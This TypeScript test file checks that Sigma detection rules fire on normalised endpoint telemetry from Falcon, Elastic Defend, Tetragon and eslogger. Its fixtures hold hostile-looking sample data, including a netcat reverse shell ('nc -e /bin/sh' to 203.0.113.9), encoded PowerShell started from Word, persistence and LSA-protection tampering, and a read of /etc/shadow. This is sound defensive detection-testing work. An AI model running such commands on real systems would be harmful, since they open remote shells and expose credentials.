import assert from 'node:assert/strict'
import { test } from 'node:test'
import { compilePredicate } from '@manara/log-query/predicate'
import { importSigma } from '@manara/sigma/import-sigma'
import { normalise } from '../../normalise.ts'

type Event = Record<string, unknown>

const read = (object: Event) =>
  normalise(
    { object, isEnvelope: true },
    { receivedAt: Date.UTC(2026, 5, 1), way: 'api', newId: () => 'id' },
  )

function fires(logsource: string, selection: Record<string, unknown>, event: Event): boolean {
  const [product, category] = logsource.split('/')
  const content = `title: A
logsource: { product: ${product}, category: ${category} }
detection: { selection: ${JSON.stringify(selection)}, condition: selection }
`
  const [imported] = importSigma([{ name: 'a.yml', content }]).rules
  assert.equal(imported?.kind, 'query')
  return compilePredicate(imported.query)(read(event))
}

const falcon = (event_simpleName: string, more: Event, event_platform = 'Win') => ({
  ...{ event_simpleName, event_platform, timestamp: '1772532000000', aid: 'a1', cid: 'c1' },
  ...more,
})
const DISK = '\\Device\\HarddiskVolume3'

const defend = (kind: string, action: string, more: Event, os = 'windows') => ({
  '@timestamp': '2026-03-03T10:00:00Z',
  agent: { type: 'endpoint' },
  event: { action, category: [kind], type: [action] },
  data_stream: { dataset: `endpoint.events.${kind}` },
  host: { name: 'ws5', os: { type: os } },
  ...more,
})
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'

const tetragon = (kind: string, more: Event, binary = '/usr/bin/nc') => ({
  [kind]: {
    process: { pid: 7, uid: 0, binary, arguments: '-e /bin/sh 203.0.113.9 443' },
    parent: { pid: 6, binary: '/usr/sbin/apache2', arguments: '-k start' },
    ...more,
  },
  node_name: 'node1',
  time: '2026-03-03T10:00:00Z',
})
const eslogger = (event_type: number, event: Event) => ({
  ...{ event_type, event, time: '2026-03-03T10:00:00Z' },
  process: { audit_token: { pid: 5, euid: 501 }, ppid: 1, executable: { path: '/bin/zsh' } },
})
const OSASCRIPT = { audit_token: { pid: 5 }, executable: { path: '/usr/bin/osascript' } }

const CASES: [logsource: string, selection: Record<string, unknown>, event: Event][] = [
  [
    'windows/process_creation',
    {
      'Image|startswith': 'C:\\Windows\\System32\\',
      'ParentImage|endswith': '\\WINWORD.EXE',
      'CommandLine|contains': ' -enc ',
      IntegrityLevel: 'System',
    },
    falcon('ProcessRollup2', {
      ImageFileName: `${DISK}\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`,
      CommandLine: 'powershell.exe -enc SQBFAFgA',
      ParentBaseFileName: 'WINWORD.EXE',
      IntegrityLevel: '16384',
    }),
  ],
  [
    'windows/network_connection',
    { Initiated: 'true', 'Image|endswith': '\\regsvr32.exe', DestinationIp: '198.51.100.2' },
    falcon('NetworkConnectIP4', {
      ContextBaseFileName: 'regsvr32.exe',
      RemoteAddressIP4: '198.51.100.2',
    }),
  ],
  [
    'windows/dns_query',
    { 'QueryName|endswith': '.ngrok.io' },
    falcon('DnsRequest', { DomainName: 'x.ngrok.io', ContextBaseFileName: 'a.exe' }),
  ],
  [
    'windows/file_event',
    { 'TargetFilename|startswith': 'C:\\Users\\', 'Image|endswith': '\\powershell.exe' },
    falcon('PeFileWritten', {
      TargetFileName: `${DISK}\\Users\\eve\\a.exe`,
      ContextImageFileName: `${DISK}\\Windows\\powershell.exe`,
    }),
  ],
  [
    'windows/registry_event',
    {
      'TargetObject|startswith': 'HKU\\S-1-5-21-1\\',
      'TargetObject|endswith': '\\CurrentVersion\\Run\\upd',
      'Details|contains': '\\Temp\\',
    },
    falcon('AsepValueUpdate', {
      RegObjectName: '\\REGISTRY\\USER\\S-1-5-21-1\\SOFTWARE\\CurrentVersion\\Run',
      RegValueName: 'upd',
      RegStringValue: 'C:\\Temp\\a.exe',
    }),
  ],
  [
    'linux/process_creation',
    { 'Image|endswith': '/bash', 'ParentImage|endswith': '/php' },
    falcon('ProcessRollup2', { ImageFileName: '/usr/bin/bash', ParentBaseFileName: 'php' }, 'Lin'),
  ],
  [
    'windows/process_creation',
    { OriginalFileName: 'PowerShell.EXE', 'ParentImage|endswith': '\\WINWORD.EXE' },
    defend('process', 'start', {
      process: {
        executable: POWERSHELL,
        pe: { original_file_name: 'PowerShell.EXE' },
        parent: { executable: 'C:\\Office16\\WINWORD.EXE' },
      },
    }),
  ],
  [
    'windows/registry_set',
    {
      'TargetObject|endswith': '\\CurrentControlSet\\Control\\Lsa\\RunAsPPL',
      Details: 'DWORD (0x00000000)',
    },
    defend('registry', 'modification', {
      registry: {
        path: 'HKLM\\SYSTEM\\ControlSet001\\Control\\Lsa\\RunAsPPL',
        data: { type: 'REG_DWORD', strings: ['0'] },
      },
    }),
  ],
  [
    'windows/image_load',
    { 'ImageLoaded|endswith': '\\dbghelp.dll', Signed: 'false' },
    defend('library', 'load', {
      dll: { path: 'C:\\Temp\\dbghelp.dll', code_signature: { exists: false } },
    }),
  ],
  [
    'windows/file_delete',
    { 'TargetFilename|endswith': '.pf', 'Image|endswith': '\\powershell.exe' },
    defend('file', 'deletion', {
      file: { path: 'C:\\Windows\\Prefetch\\A.pf' },
      process: { executable: POWERSHELL },
    }),
  ],
  [
    'windows/file_rename',
    { 'TargetFilename|endswith': '.lockbit' },
    defend('file', 'rename', { file: { path: 'C:\\a.docx.lockbit' } }),
  ],
  [
    'windows/network_connection',
    { Initiated: 'true', DestinationPort: 88 },
    defend('network', 'connection_attempted', { destination: { ip: '192.0.2.9', port: 88 } }),
  ],
  [
    'linux/process_creation',
    { 'Image|endswith': '/bash' },
    defend('process', 'exec', { process: { executable: '/usr/bin/bash' } }, 'linux'),
  ],
  [
    'linux/process_creation',
    {
      'Image|endswith': '/nc',
      'CommandLine|startswith': 'nc -e ',
      'ParentImage|endswith': '/apache2',
      User: 'root',
    },
    tetragon('process_exec', {}),
  ],
  [
    'linux/network_connection',
    { 'Image|endswith': '/nc', DestinationIp: '203.0.113.9', DestinationPort: 443 },
    tetragon('process_kprobe', {
      ...{ function_name: 'tcp_connect' },
      args: [{ sock_arg: { saddr: '192.0.2.5', daddr: '203.0.113.9', dport: 443 } }],
    }),
  ],
  [
    'macos/process_creation',
    {
      'Image|endswith': '/osascript',
      'CommandLine|contains|all': [' -e ', 'hidden answer'],
      'ParentImage|endswith': '/zsh',
    },
    eslogger(9, { exec: { target: OSASCRIPT, args: ['osascript', '-e', 'with hidden answer'] } }),
  ],
  [
    'macos/file_event',
    { 'TargetFilename|startswith': '/Library/LaunchDaemons/', 'Image|endswith': '/zsh' },
    eslogger(13, {
      create: {
        destination: { new_path: { dir: { path: '/Library/LaunchDaemons' }, filename: 'a.plist' } },
      },
    }),
  ],
]

for (const [logsource, selection, event] of CASES) {
  const { _parser } = read(event).fields
  test(`a rule for ${logsource} about ${Object.keys(selection)} finds ${_parser}`, () => {
    assert.ok(fires(logsource, selection, event), JSON.stringify(read(event).fields))
    for (const name in selection)
      assert.ok(!fires(logsource, { ...selection, [name]: 'other' }, event), name)
  })
}

const NEIGHBOURS: [string, logsource: string, selection: Record<string, unknown>, event: Event][] =
  [
    [
      'a program of Windows for a rule of Linux',
      'linux/process_creation',
      { 'CommandLine|contains': 'wget' },
      falcon('ProcessRollup2', { CommandLine: 'wget http://a.example' }),
    ],
    [
      'the end of a process',
      'windows/process_creation',
      { 'Image|endswith': '\\powershell.exe' },
      defend('process', 'end', { process: { executable: POWERSHELL } }),
    ],
    [
      'a key that is only read',
      'windows/registry_event',
      { 'TargetObject|endswith': '\\Lsa' },
      defend('registry', 'query', { registry: { path: 'HKLM\\SYSTEM\\Lsa' } }),
    ],
    [
      'a connection of a program that the rule wants started',
      'linux/process_creation',
      { 'Image|endswith': '/nmap' },
      defend(
        'network',
        'connection_attempted',
        { process: { executable: '/usr/bin/nmap' } },
        'linux',
      ),
    ],
    [
      'the end of a process of Tetragon',
      'linux/process_creation',
      { 'Image|endswith': '/nc' },
      tetragon('process_exit', { signal: 'SIGKILL' }),
    ],
    [
      'a file that is read',
      'linux/file_event',
      { 'Image|endswith': '/nc' },
      tetragon('process_kprobe', {
        ...{ function_name: 'security_file_permission' },
        args: [{ file_arg: { path: '/etc/shadow' } }],
      }),
    ],
    [
      'a program of macOS for a rule of Linux',
      'linux/process_creation',
      { 'Image|endswith': '/osascript' },
      eslogger(9, { exec: { target: OSASCRIPT, args: ['osascript'] } }),
    ],
    [
      'a copy of a process that is not another program yet',
      'macos/process_creation',
      { 'Image|endswith': '/zsh' },
      eslogger(11, { fork: { child: OSASCRIPT } }),
    ],
  ]

for (const [what, logsource, selection, event] of NEIGHBOURS) {
  test(`${what} is not found`, () => {
    assert.ok(!fires(logsource, selection, event), JSON.stringify(read(event).fields))
  })
}

test('what Falcon says in words that every object has is nothing that is known', () => {
  const said = { RegType: 'constructor', RegStringValue: 'a', IntegrityLevel: 'constructor' }
  for (const name of ['AsepValueUpdate', 'ProcessRollup2']) {
    const { fields } = read(falcon(name, said, 'constructor'))
    assert.equal(fields['host.os.type'], undefined)
    assert.equal(fields['process.Ext.token.integrity_level_name'], undefined)
    assert.equal(fields.Details, name === 'AsepValueUpdate' ? 'a' : undefined)
  }
})

test('what stands among the arguments of a program and is no text is left out', () => {
  const args = ['osascript', { toString: 1 }, '-']
  const { fields } = read(eslogger(9, { exec: { target: OSASCRIPT, args } }))
  assert.equal(fields['process.command_line'], 'osascript -')
})

test('who connected from outside is the source, over IPv6 too', () => {
  const { src_ip, dst_ip, fields } = read(
    falcon('NetworkReceiveAcceptIP6', {
      ...{ LocalAddressIP6: '2001:db8::5', LocalPort: '3389' },
      ...{ RemoteAddressIP6: '2001:db8::9', RemotePort: '50000' },
    }),
  )
  assert.deepEqual([src_ip, dst_ip], ['2001:db8::9', '2001:db8::5'])
  assert.deepEqual([fields['source.port'], fields['destination.port']], [50000, 3389])
})
